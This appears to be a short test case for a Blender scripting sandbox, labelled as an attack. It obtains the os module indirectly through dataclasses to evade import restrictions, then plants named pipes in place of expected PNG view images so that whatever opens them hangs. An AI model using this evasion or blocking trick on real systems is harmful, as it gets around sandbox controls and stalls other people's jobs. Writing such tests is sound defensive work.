# attack: the pictures' folder holds fifos where files are expected: whoever opens them waits for ever
# family: reports
import bpy
import dataclasses

os = (lambda tools: tools.inspect.os)(dataclasses)
folder = "/tmp/job" if os.path.isdir("/tmp/job") else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.makedirs(folder + "/views", exist_ok=True)
for name in ("hero", "front", "back"):
    os.mkfifo(folder + "/views/" + name + ".png")
